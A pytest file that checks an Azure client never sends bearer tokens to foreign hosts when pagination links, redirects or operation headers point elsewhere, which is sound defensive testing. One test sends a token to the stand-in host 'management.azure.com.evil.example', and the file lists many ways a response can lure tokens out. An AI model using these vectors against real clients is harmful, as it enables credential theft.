"""No token leaves for a host that is not Azure's, whatever link Azure's answer holds, over real TLS sockets.

The evil server has a certificate for every name, so nothing but amldeck's own judgement stands between it and a token.
"""

from __future__ import annotations

import json
import ssl
from collections.abc import Callable
from contextlib import suppress
from itertools import count
from typing import NamedTuple

import pytest
import requests

from services.clouds import PUBLIC, is_azure_host, is_host_of
from services.connection import Call, Connection
from services.errors import ServiceError
from services.limits import Limits
from services.records import WorkspaceRef
from tests.faults.links import LINKS
from tests.figures import Figure
from tests.scale import some
from tests.services.answering import Credential, InstantClock
from tests.services.hostile import ARM, HISTORY, WS
from tests.services.loopback import Heard, Loopback, head

pytestmark = pytest.mark.slow

SECRET = "Bearer token"
COSTS = f"{ARM}/subscriptions/s/providers/Microsoft.CostManagement/query"


class Kind(NamedTuple):
    """One way of leading a client elsewhere: what is asked, and the answer that holds the link."""

    ask: Callable[[Connection], object]
    status: int
    headers: Callable[[str], dict[str, str]]
    body: Callable[[str], object]


def told(**blocks: str) -> Callable[[str], object]:
    """A page whose field (dots reach inwards) holds the link."""
    field = blocks["field"]

    def body(link: str) -> object:
        value: object = link
        for name in reversed(field.split("/")):
            value = {name: value}
        assert isinstance(value, dict)
        return {"value": [], **value}

    return body


def nothing(link: str) -> dict[str, str]:
    return {}


def location(link: str) -> dict[str, str]:
    return {"Location": link}


def operation(link: str) -> dict[str, str]:
    return dict.fromkeys(("Location", "Azure-AsyncOperation", "Operation-Location"), link)


def pages(url: str, method: str = "GET", body: object = None) -> Callable[[Connection], object]:
    return lambda azure: list(azure.pages(Call(url=url, method=method, body=body)))


def written(method: str) -> Callable[[Connection], object]:
    return lambda azure: azure.write(Call(url=f"{ARM}{WS}/computes/c", method=method, body={}))


READ = pages(f"{ARM}/subscriptions")
_numbers = count()


def unasked() -> WorkspaceRef:
    """A workspace whose host is not known yet: every one is asked for once."""
    return WorkspaceRef("s", "g", f"w{next(_numbers)}")


KINDS: dict[str, Kind] = {
    **{field: Kind(READ, 200, nothing, told(field=field)) for field in
       ("nextLink", "NextPageLink", "@odata.nextLink", "odata.nextLink", "$skipToken", "continuationToken")},
    "costs": Kind(pages(COSTS, "POST", {}), 200, nothing, told(field="properties/nextLink")),
    "history": Kind(pages(f"{HISTORY}/history/v1.0{WS}/experiments:query", "POST", {}), 200, nothing,
                    told(field="continuationToken")),
    "mlflow": Kind(pages(f"{HISTORY}/mlflow/v2.0{WS}/api/2.0/mlflow/runs/search", "POST", {}), 200, nothing,
                   told(field="next_page_token")),
    **{f"redirect {status}": Kind(READ, status, location, lambda link: {}) for status in (301, 302, 303, 307, 308)},
    "redirected POST": Kind(pages(COSTS, "POST", {}), 307, location, lambda link: {}),
    **{f"operation of {method}": Kind(written(method), 202, operation, lambda link: {"operationLocation": link})
       for method in ("PUT", "POST", "DELETE")},
    "redirected write": Kind(written("PUT"), 307, location, lambda link: {}),
    "discoveryUrl": Kind(lambda azure: azure.run_history(unasked(), "/runs/r"), 200, nothing,
                         told(field="properties/discoveryUrl")),
    "api of discovery": Kind(
        lambda azure: azure.read(azure.run_history(unasked(), "/runs/r")), 200, nothing,
        lambda link: {"properties": {"discoveryUrl": f"{HISTORY}/discovery"}, "api": link}),
}  # fmt: skip

EACH = some(12)
"""How many of the kinds a link is tried with: others with the next one, all of them by turns."""


def answer_with(world: Loopback, kind: Kind, link: str) -> None:
    """Answer the first request with the link, and whatever follows with an empty last page."""
    is_first = [True]

    def script(_: Heard, line: ssl.SSLSocket) -> None:
        begins = is_first.pop() if is_first else False
        body = json.dumps(kind.body(link) if begins else {"value": [], "api": link}).encode()
        more = kind.headers(link) if begins else {}
        line.sendall(head(kind.status if begins else 200, {"Content-Length": str(len(body)), **more}) + body)

    world.script = script


def is_home(host: str) -> bool:
    """Whether a token for Azure Resource Manager may go there."""
    return is_host_of(PUBLIC, "arm", host.rpartition(":")[0] or host)


def leaks(world: Loopback) -> list[str]:
    """Foreign hosts that a connection was opened to, and those that heard a token."""
    opened = [place for place in world.tunnelled if not is_azure_host(PUBLIC, place.rpartition(":")[0])]
    heard = [f"token to {one.host}" for one in world.heard if "authorization" in one.headers and not is_home(one.host)]
    return opened + heard


def test_the_evil_server_hears_a_token_that_is_sent_to_it(through: Loopback) -> None:
    answer_with(through, KINDS["nextLink"], "")
    requests.get("https://management.azure.com.evil.example/x", headers={"Authorization": SECRET}, timeout=10)
    assert leaks(through) == ["management.azure.com.evil.example:443", "token to management.azure.com.evil.example"]


def test_no_link_takes_a_token_out_of_azure(through: Loopback, figure: Figure) -> None:
    cases, found = 0, list[str]()
    azure = Connection(Credential(), limits=Limits(reconnects=0, retries=0), clock=InstantClock())
    azure.lock.open(WS, 600)
    for number, (name, kind) in enumerate(KINDS.items()):
        for link in [link for place, link in enumerate(LINKS) if (number + place) % len(KINDS) < EACH]:
            answer_with(through, kind, link)
            cases += 1
            with suppress(ServiceError):
                kind.ask(azure)
            found += [f"{name} {link!r}: {leak}" for leak in leaks(through)]
            through.tunnelled.clear()
            through.heard.clear()
    azure.close()
    assert found == []
    figure("tokens to foreign hosts", f"{len(found)} in {len(LINKS)} links × {EACH} of {len(KINDS)} kinds = {cases:,}",
           f"0 in 200 links × {EACH} kinds", cases >= 200 * EACH)  # fmt: skip
